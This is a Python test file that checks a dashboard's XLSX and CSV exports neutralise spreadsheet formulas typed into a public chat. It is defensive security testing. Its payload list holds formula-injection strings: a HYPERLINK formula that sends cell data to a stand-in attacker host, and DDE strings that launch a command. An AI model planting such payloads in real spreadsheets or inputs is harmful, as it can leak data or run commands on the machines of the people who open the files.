"""Probe (issue 11): text that would start a spreadsheet formula is neutralised in the XLSX and CSV exports.

Anyone can write into the bilan's "top unanswered questions" from the public
chat; a message starting with ``=``, ``+``, ``-``, ``@``, a tab or a CR must
reach a manager's spreadsheet as text, never as a live formula.
"""
from __future__ import annotations

import csv
import datetime as dt
import io

from openpyxl import load_workbook

from dashboard import exports
from db.repositories import enquiries
from db.repositories.bilan import compute_bilan

PAYLOADS = ['=HYPERLINK("https://attacker.example/?d="&A1,"cliquez ici")', "=1+1", "+1+1",
            "-2+3+cmd|' /c calc'!A0", "@SUM(1+1)*cmd|' /c calc'!A0"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _bilan(migrated_db) -> dict:
    enquiries.start_enquiry("probe-1", "conv-probe-1", "web", "fr")
    enquiries.record_question("probe-1", "Comment me faire rembourser des soins payés en Espagne ?", "q_c1", 0.9,
                              "C1", "c", "answered")
    for text in PAYLOADS:
        enquiries.record_question("probe-1", text, "nlu_fallback", 0.1, None, None, "not_understood")
    today = dt.datetime.now(dt.timezone.utc).date()
    return compute_bilan(today - dt.timedelta(days=1), today + dt.timedelta(days=1))


def test_no_cell_of_the_exports_starts_a_formula(migrated_db):
    bilan = _bilan(migrated_db)
    assert {r["text"] for r in bilan["top_unanswered"]} >= {p.lower() for p in PAYLOADS}

    workbook = load_workbook(io.BytesIO(exports.to_xlsx(bilan, "fr")))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    formulas = [f"{c.parent.title}!{c.coordinate}={c.value!r}" for c in cells if c.data_type == "f"]
    assert not formulas, f"live formulas in the XLSX: {formulas}"
    risky = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
    assert not risky, f"XLSX text cells that a spreadsheet would read as formulas: {risky}"
    assert any("hyperlink" in str(c.value) for c in cells)  # the text is there, as text

    text = exports.to_csv(bilan, "fr").decode("utf-8-sig")
    dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=";,")
    cells = [cell for row in csv.reader(io.StringIO(text), dialect) for cell in row]
    risky = [c for c in cells if c.startswith(FORMULA_START)]
    assert not risky, f"CSV cells that a spreadsheet would read as formulas: {risky}"
